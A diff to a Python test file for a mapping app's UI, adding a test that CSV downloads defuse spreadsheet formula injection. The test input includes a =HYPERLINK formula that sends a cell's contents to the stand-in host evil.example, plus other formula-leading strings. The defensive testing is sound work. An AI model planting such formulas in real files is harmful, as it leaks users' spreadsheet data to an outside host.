@@ -1,5 +1,6 @@
 """Tables, cards, legends, downloads and charts."""
 
+import csv
 import io
 import json
 import math
@@ -14,6 +15,7 @@ import shapely
 
 from geo.errors import InputError, PackError, ReachError, UnknownNameError
 from ui import cards, charts, downloads, legend, page, palette, tables
+from ui.sentences import group_words
 
 
 def test_table_shows_units_and_keeps_numbers() -> None:
@@ -39,8 +41,8 @@ def test_card_escapes_and_says_its_status() -> None:
 
 def test_legend_has_words_for_every_sign() -> None:
     classes = palette.class_breaks([210, 480, 990])
-    html = legend.classes_html(classes, "Children <3", missing=True)
-    assert all(words in html for words in (*classes.labels, "no figure", "target ward", "Children &lt;3"))
+    html = legend.classes_html(classes, "Children <3", missing="too few to show")
+    assert all(words in html for words in (*classes.labels, "too few to show", "target ward", "Children &lt;3"))
     bands = palette.time_bands(15)
     assert all(words in legend.bands_html(bands, "Minutes") for words in bands.labels)
     assert "Children&#x27;s centre" in legend.services_html(["childrens_centre", "bus_stop"])
@@ -49,11 +51,35 @@ def test_legend_has_words_for_every_sign() -> None:
 def test_csv_carries_its_notes() -> None:
     data = downloads.csv_bytes(pd.DataFrame({"name": ["=1+1", "Milton"], "n": [-1, 2]}), {"title": "Reach\nby ward"})
     text = data.decode("utf-8-sig")
-    assert text.startswith("# title: Reach by ward\n# attribution: ")
+    assert text.startswith("# title,Reach by ward\n# attribution,")
     assert "OpenStreetMap" in text
     read = pd.read_csv(io.StringIO(text), comment="#")
     assert read["name"].tolist() == ["'=1+1", "Milton"]
     assert read["n"].tolist() == [-1, 2]
+
+
+@pytest.mark.parametrize("parted", [",", ";", "\t"])
+def test_no_cell_of_a_csv_is_a_formula(parted: str) -> None:
+    """Names come from shared links; a spreadsheet parts cells at commas, or by the reader's language at semicolons."""
+    name = 'Plan,=HYPERLINK("http://evil.example/?"&B9,"open");=1+1; +1'
+    frame = pd.DataFrame(
+        {
+            "kind": pd.Categorical(["=1+1", "b"]),
+            "text": pd.array([" =1+1", "\t@SUM(1)"], dtype="string"),
+            "mixed": ["a;=2", -3],
+            "=head": [name, "plain -1"],
+            "n": [-1.5, 2],
+        }
+    )
+    text = downloads.csv_bytes(frame, {"title": name, "note": "=1+1"}).decode("utf-8-sig")
+    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=parted) for cell in line]
+    signed = {cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")}
+    assert signed == ({"-3", "-1.5"} if parted == "," else set()), "numbers alone may start with a sign"
+    read = pd.read_csv(io.StringIO(text), comment="#")
+    assert read["n"].tolist() == [-1.5, 2]
+    assert read["kind"].tolist() == ["'=1+1", "b"]
+    if parted == ",":
+        assert ["# title", name.replace(";", ";'")] in [*csv.reader(io.StringIO(text))], "one heading, one text"
 
 
 def test_geopackage_carries_its_notes(tmp_path: Path) -> None:
@@ -85,9 +111,13 @@ def test_bars_mark_target_wards_in_their_names() -> None:
 
 def test_curve_tells_lines_apart_by_dash() -> None:
     frame = pd.DataFrame({"minutes": [5, 5], "group": ["target", "rest"], "share": [0.1, 0.3]})
-    spec = charts.share_curve(frame, title="Share within minutes", threshold_min=15).to_dict()
+    spec = charts.share_curve(
+        frame, title="Share within minutes", threshold_min=15, names=group_words(n_target=3, n_rest=14)
+    ).to_dict()
     assert "strokeDash" in spec["layer"][0]["encoding"]
-    assert "six target wards" in json.dumps(spec)
+    assert "three target wards" in json.dumps(spec)
+    assert "other 14 wards" in json.dumps(spec)
+    assert "six" not in json.dumps(charts.share_curve(frame, title="Share").to_dict())
 
 
 @pytest.mark.parametrize(
